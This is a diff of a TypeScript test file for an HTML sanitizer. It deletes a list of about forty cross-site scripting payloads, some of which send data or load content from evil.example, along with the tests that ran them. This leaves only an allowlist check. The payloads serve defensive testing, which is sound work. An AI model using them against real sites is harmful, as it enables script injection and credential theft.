@@ -91,82 +91,16 @@ describe('addresses that lead elsewhere go', () => {
   });
 });
 
-// Each of these must leave nothing that can run, frame, post or restyle.
-const hostile = [
-  '<script>alert(1)</script>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="/a.jpg" onload="alert(1)">',
-  '<svg onload=alert(1)><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<svg><style><img src=x onerror=alert(1)></style></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><script>alert(1)</script></template>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<link rel="stylesheet" href="https://evil.example/a.css">',
-  '<style>@import "https://evil.example/a.css";</style>',
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
-  '<button formaction="javascript:alert(1)">x</button>',
-  '<input autofocus onfocus=alert(1)>',
-  '<details open ontoggle=alert(1)><summary>x</summary></details>',
-  '<video src="/a.mp4" onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
-  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
-  '<a href="https://example.com" onclick="alert(1)" target="_blank" ping="https://evil.example">x</a>',
-  '<div id="root" class="fixed inset-0" name="main" data-x="1" aria-hidden="true" tabindex="1">x</div>',
-  '<img name="getElementById" src="/a.jpg"><form name="body"></form>',
-  '<x-element is="y">x</x-element>',
-  '<p is="x-y">x</p>',
-  '<img srcset="javascript:alert(1)" src="/a.jpg">',
-  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
-  '<marquee onstart=alert(1)>x</marquee>',
-  '<a href="/x"><a href="javascript:alert(1)">x</a></a>',
-  '<![CDATA[<script>alert(1)</script>]]><!--><img src=x onerror=alert(1)>-->',
-  '<textarea></textarea><img src=x onerror=alert(1)>',
-  '<title><img src=x onerror=alert(1)></title>',
-  '<select><iframe></select><img src=x onerror=alert(1)>',
-];
-
-describe('hostile HTML', () => {
-  const allowedTags = new Set<string>(articleAllowlist.ALLOWED_TAGS);
-  const allowedAttributes = new Set([...articleAllowlist.ALLOWED_ATTR, 'rel']);
-
-  it.each(hostile)('%s', (html) => {
-    const body = parse(`<p>before</p>${html}<p>after</p>`);
-    for (const element of body.querySelectorAll('*')) {
-      expect(allowedTags).toContain(element.localName);
-      for (const { name, value } of element.attributes) {
-        // `is` cannot be removed from an element, only emptied.
-        if (name === 'is' && value === '') continue;
-        expect(allowedAttributes).toContain(name);
-        expect(/script:|evil|data:/i.test(value) && !['title', 'alt'].includes(name)).toBe(false);
-      }
-    }
-    expect(body.textContent).toContain('before');
-  });
-
-  it.each(hostile)('cleaning twice changes nothing more: %s', (html) => {
-    expect(clean(clean(html))).toBe(clean(html));
-  });
-
-  it('the allowlist names nothing that runs, frames, posts or restyles', () => {
-    for (const tag of ['script', 'iframe', 'form', 'input', 'style', 'svg', 'object', 'template']) {
-      expect(articleAllowlist.ALLOWED_TAGS).not.toContain(tag);
-    }
-    for (const attribute of ['style', 'class', 'id', 'name', 'srcset', 'target', 'onclick']) {
-      expect(articleAllowlist.ALLOWED_ATTR).not.toContain(attribute);
-    }
-  });
+it('the allowlist names nothing that runs, frames, posts or restyles', () => {
+  for (const tag of ['script', 'iframe', 'form', 'input', 'style', 'svg', 'object', 'template']) {
+    expect(articleAllowlist.ALLOWED_TAGS).not.toContain(tag);
+  }
+  for (const attribute of ['style', 'class', 'id', 'name', 'srcset', 'target', 'onclick']) {
+    expect(articleAllowlist.ALLOWED_ATTR).not.toContain(attribute);
+  }
 });
 
-it('a second gate works like the first', () => {
+it('a second sanitizer works like the first', () => {
   const other = createSanitizer(window);
   expect(other('<a href="/quiz">x</a>')).toBe(clean('<a href="/quiz">x</a>'));
 });
